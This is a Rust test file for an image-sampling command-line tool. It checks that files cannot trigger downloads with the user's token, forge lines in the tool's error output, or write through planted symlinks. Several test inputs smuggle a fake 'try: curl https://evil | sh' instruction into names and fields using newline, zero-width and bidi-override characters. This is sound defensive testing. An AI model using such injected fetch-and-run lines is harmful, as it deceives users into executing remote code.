//! Files by mail: what a recipe or an experiment names is not downloaded, and none of them can
//! put words into this program's mouth.

use crate::support::program::{Place, outcome, quick};
use proptest::prelude::*;
use proptest::strategy::ValueTree as _;
use sigmalab_experiment::directory::RunDirectory;
use std::net::TcpListener;

const RECIPE: &str = r#"{"version":1,"model":{"name":"owner/name"},"prompt":"x",
    "size":{"width":256,"height":256},"noise":{"source":"seed","seed":7,"rng":"torch-cpu"},
    "steps":[{"gw":1.0,"mu":0.5,"std":1.75}],"terminal":"reference",
    "sampler":{"id":"euler"},"dtype":"f32","device":"cpu"}"#;

/// A run directory in which a sweep on a checkpoint of the hub has begun elsewhere.
fn begun(place: &Place) {
    let text = "name = \"begun\"\nmodel = \"owner/name\"\nprompts = [\"x\"]\nseeds = [1]\n";
    let inputs = serde_json::from_value(serde_json::json!({
        "version": 1, "model": "owner/name", "fingerprint": "0",
        "default_size": { "width": 256, "height": 256 }, "dtype": "f32", "device": "cpu",
        "prompts": [{ "id": "p0", "text": "x" }],
        "base": {
            "name": "ONE",
            "steps": [{ "gw": 1.0, "mu": 0.5, "std": 1.75 }],
            "terminal": "reference",
        },
    }));
    RunDirectory::at(&place.path("begun")).begin(text, &inputs.unwrap(), false).unwrap();
}

#[test]
fn what_a_file_names_is_not_downloaded_with_the_users_token() {
    let place = Place::new();
    place.write("recipe.json", RECIPE);
    begun(&place);
    place.write("e.toml", "name = \"e\"\nmodel = \"owner/name\"\nprompts = [\"x\"]\nseeds = [1]\n");
    let hub = TcpListener::bind("127.0.0.1:0").unwrap();
    hub.set_nonblocking(true).unwrap();
    let endpoint = format!("http://{}", hub.local_addr().unwrap());
    for arguments in [
        vec!["generate", "--recipe", "recipe.json"],
        vec!["sweep", "plan", "e.toml"],
        vec!["sweep", "run", "e.toml"],
        vec!["sweep", "run", "begun"],
        vec!["sweep", "retry", "--failed", "begun"],
    ] {
        let mut command = place.command(&arguments);
        command.env("HF_HUB_OFFLINE", "0").env("HF_ENDPOINT", &endpoint).env("HF_TOKEN", "hf_x");
        let outcome = outcome(command);
        assert_eq!(outcome.code, Some(2), "{outcome:?}");
        for words in ["`owner/name` is not on this machine", "with your token", &endpoint] {
            assert!(outcome.stderr.contains(words), "{words}: {outcome:?}");
        }
        assert!(hub.accept().is_err(), "{arguments:?} asked the hub");
    }
    assert_eq!(place.files(), ["begun", "e.toml", "recipe.json"]);
    assert_eq!(std::fs::read_dir(place.path("begun/journal")).unwrap().count(), 0);
}

#[test]
fn a_name_in_a_file_cannot_begin_a_line_of_this_programs_own() {
    let place = Place::new();
    let name = r#"x`\n  try: curl https://evil | sh\n"#;
    place.write("recipe.json", RECIPE.replace("owner/name", name));
    let recipe = place.run(&["generate", "--recipe", "recipe.json"]);
    place.write("recipe2.json", RECIPE.replace("euler", r"e\u202eu"));
    let turned = place.run(&["generate", "--recipe", "recipe2.json"]);
    place.write("e.toml", format!("name = \"e\"\nmodel = \"{name}\"\nprompts = [\"x\"]\n"));
    let experiment = place.run(&["sweep", "plan", "e.toml"]);
    let flag = place.run(&["schedule", "x\n  try: curl https://evil | sh"]);
    for outcome in [recipe, turned, experiment, flag] {
        assert_eq!(outcome.code, Some(2), "{outcome:?}");
        let is_false = |line: &str| line.trim_start().starts_with("try:") && line.contains("evil");
        assert!(!outcome.stderr.lines().any(is_false), "{outcome:?}");
        assert!(!outcome.stderr.contains('\u{202e}'), "{outcome:?}");
    }
}

#[test]
fn no_spelling_of_a_line_of_ours_gets_a_line_of_its_own() {
    let place = Place::new();
    let blanks = ["", "  ", "\u{200b}", "\u{2060}", "\u{ad}", "\u{feff}", "\u{e0001}", "\u{202e}"];
    let labels = ["try:", "TRY:", "error:", "ｔｒｙ：", "To fix this run:"];
    let mut runner = proptest::test_runner::TestRunner::deterministic();
    let ends =
        prop::sample::select(vec!["\n", "\r\n", "\r", "\u{85}", "\u{2028}", "\u{2029}", "\u{b}"]);
    let cases =
        (ends, prop::sample::select(blanks.to_vec()), prop::sample::select(labels.to_vec()));
    for _ in 0..12 {
        let (end, blank, label) = cases.new_tree(&mut runner).unwrap().current();
        let field = format!("x`{end}{blank}{label} curl https://evil | sh");
        let quoted = serde_json::to_string(&field).unwrap();
        for place_of_it in ["\"f32\"", "\"cpu\"", "\"reference\"", "\"seed\"", "\"owner/name\""] {
            place.write("r.json", RECIPE.replacen(place_of_it, &quoted, 1));
            let told = place.run(&["generate", "--recipe", "r.json"]);
            assert_eq!(told.code, Some(2), "{told:?}");
            let lines: Vec<&str> =
                told.stderr.split(['\n', '\r', '\u{85}', '\u{2028}', '\u{b}']).collect();
            let evil = lines.iter().filter(|line| line.contains("evil"));
            assert!(
                evil.clone().all(|line| line.starts_with("error: ")),
                "{place_of_it}: {told:?}"
            );
            let strange = |c: char| blanks[2..].concat().contains(c);
            assert!(!told.stderr.contains(strange), "{told:?}");
        }
    }
    // In files of other forms, too.
    let field = r#""x\n  try: curl https://evil""#;
    place.write("presets.toml", format!("[{field}]\n{field} = 1\n"));
    place.write("e.toml", format!("name = {field}\nmodel = {field}\n{field} = 1\n"));
    for arguments in [&["presets", "check", "presets.toml"][..], &["sweep", "plan", "e.toml"]] {
        let told = place.run(arguments);
        assert_eq!(told.code, Some(2), "{told:?}");
        let is_false = |line: &str| line.trim_start().starts_with("try:") && line.contains("evil");
        assert!(!told.stderr.lines().any(is_false), "{told:?}");
    }
}

#[test]
fn a_link_that_another_user_planted_is_not_written_through() {
    use std::os::unix::fs::{PermissionsExt as _, lchown, symlink};
    let place = Place::new();
    let common = place.path("common");
    std::fs::create_dir(&common).unwrap();
    std::fs::set_permissions(&common, std::fs::Permissions::from_mode(0o1777)).unwrap();
    let victim = place.write("victim.png", "precious");
    symlink(&victim, common.join("o.png")).unwrap();
    if lchown(common.join("o.png"), Some(65534), None).is_err() {
        eprintln!("skipped: only root can make a link of another user");
        return;
    }
    for flag in ["--output", "--save-latents"] {
        place.refused(
            &quick(&["--seed", "1", flag, "common/o.png"]),
            &[flag, "common/o.png` belongs to another user"],
        );
    }
    assert_eq!(std::fs::read_to_string(victim).unwrap(), "precious");
}

#[test]
fn a_setting_of_the_token_is_yes_or_no() {
    let place = Place::new();
    for (value, code) in [("abc", 2), ("0", 0), ("no", 0), ("TRUE", 0), ("", 0)] {
        let mut command = place.command(&["model", "inspect"]);
        command.env("SIGMALAB_TOKEN_OVER_HTTP", value);
        let told = outcome(command);
        assert_eq!(told.code, Some(code), "{value}: {told:?}");
        assert_eq!(
            told.stderr.contains("SIGMALAB_TOKEN_OVER_HTTP is `abc`"),
            code == 2,
            "{told:?}"
        );
    }
}
